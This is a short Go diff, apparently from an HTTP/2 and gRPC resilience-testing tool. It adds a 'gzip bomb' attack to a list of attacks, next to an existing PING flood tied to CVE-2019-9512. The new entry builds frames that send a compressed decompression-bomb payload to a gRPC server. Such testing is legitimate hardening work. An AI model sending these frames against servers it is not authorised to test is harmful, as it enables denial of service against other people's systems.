@@ -69,6 +69,13 @@ var All = []Attack{
 		},
 	},
 	{
+		Name: "gzip bomb", Within: 100, Codes: calm,
+		Piece: func(c Call, i int) []byte {
+			headers := c.block(hpack.HeaderField{Name: "grpc-encoding", Value: "gzip"})
+			return join(frame(http2.FrameHeaders, http2.FlagHeadersEndHeaders, odd(i), headers...), frame(http2.FrameData, http2.FlagDataEndStream, odd(i), bomb...))
+		},
+	},
+	{
 		Name: "PING", CVE: "CVE-2019-9512", Within: 100, Codes: calm,
 		Piece: func(Call, int) []byte { return frame(http2.FramePing, 0, 0, []byte("anybody?")...) },
 	},
